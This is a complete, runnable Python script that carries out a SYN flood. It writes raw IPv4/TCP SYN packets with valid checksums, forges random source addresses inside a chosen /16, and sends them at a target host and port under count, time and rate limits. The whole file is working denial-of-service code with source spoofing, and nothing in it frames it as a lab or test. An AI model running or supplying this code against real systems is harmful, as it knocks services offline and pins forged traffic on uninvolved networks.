#!/usr/bin/env python3
"""A bounded SYN flood from spoofed sources: raw IPv4 datagrams (IPPROTO_RAW, IP_HDRINCL)
carrying TCP SYNs with correct checksums, from random addresses inside SRC_NET/16 and random
ports, to DST:PORT.

  synflood.py DST PORT SRC_NET COUNT SECONDS RATE

Stops after COUNT datagrams or SECONDS, whichever comes first, sending at most RATE per
second. Prints "sent N in S s". Exit 0 when it sent at least one.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    # TCP header with options MSS 1460, NOP, NOP, SACK permitted, NOP, window scale 7.
    options = struct.pack("!BBH", 2, 4, 1460) + bytes([1, 1, 4, 2, 1, 3, 3, 7])
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    csum = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    total = 20 + len(tcp)
    ident = random.getrandbits(16)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, ident, 0x4000, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main(argv):
    if len(argv) != 7:
        print(__doc__, file=sys.stderr)
        return 2
    dst = ipaddress.IPv4Address(argv[1])
    port = int(argv[2])
    net = ipaddress.IPv4Network(argv[3] + "/16", strict=False)
    count, seconds, rate = int(argv[4]), float(argv[5]), float(argv[6])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    dst_b = dst.packed
    base = int(net.network_address)
    start = time.monotonic()
    end = start + seconds
    sent = 0
    errors = 0
    rnd = random.Random(os.getpid())
    while sent < count:
        now = time.monotonic()
        if now >= end:
            break
        # Pace: never ahead of RATE per second.
        ahead = sent / rate - (now - start)
        if ahead > 0:
            time.sleep(min(ahead, end - now))
            continue
        for _ in range(min(64, count - sent)):
            src = struct.pack("!I", base + rnd.randrange(1, 65535))
            pkt = syn(src, dst_b, rnd.randrange(1024, 65535), port, rnd.getrandbits(32))
            try:
                s.sendto(pkt, (str(dst), 0))
                sent += 1
            except OSError:  # ENOBUFS when the device queue is full: a flood drops
                errors += 1
    elapsed = time.monotonic() - start
    print(f"sent {sent} in {elapsed:.1f} s ({errors} send errors)")
    return 0 if sent > 0 else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv))
